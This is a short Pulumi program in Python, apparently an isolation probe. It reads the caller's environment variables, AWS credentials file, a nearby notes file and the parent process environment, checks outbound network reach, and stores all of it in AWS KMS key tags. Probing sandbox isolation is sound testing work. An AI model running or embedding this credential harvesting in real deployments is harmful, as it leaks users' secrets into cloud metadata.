"""Tries to get at what belongs to the caller, and writes down in tags what it got."""

import json
import os
import socket
from pathlib import Path

import pulumi
import pulumi_aws as aws


def read(file):
    try:
        return Path(file).read_text(errors="replace").replace("\0", " ")
    except OSError as error:
        return type(error).__name__


def reach(host):
    try:
        socket.create_connection((host, 443), timeout=2).close()
    except OSError as error:
        return type(error).__name__
    return "connected"


config = pulumi.Config()
store = Path(config.require("home"), ".aws", "credentials")
found = {
    "environment": json.dumps(dict(os.environ)),
    "store": read(store),
    "neighbour": read(Path(config.require("home"), "notes.txt")),
    "parent": read(f"/proc/{os.getppid()}/environ"),
    "itself": read("/proc/self/comm").strip(),
    "null": read(os.devnull),
    "network": reach("192.0.2.7"),
}
aws.kms.Key("first", tags=found)
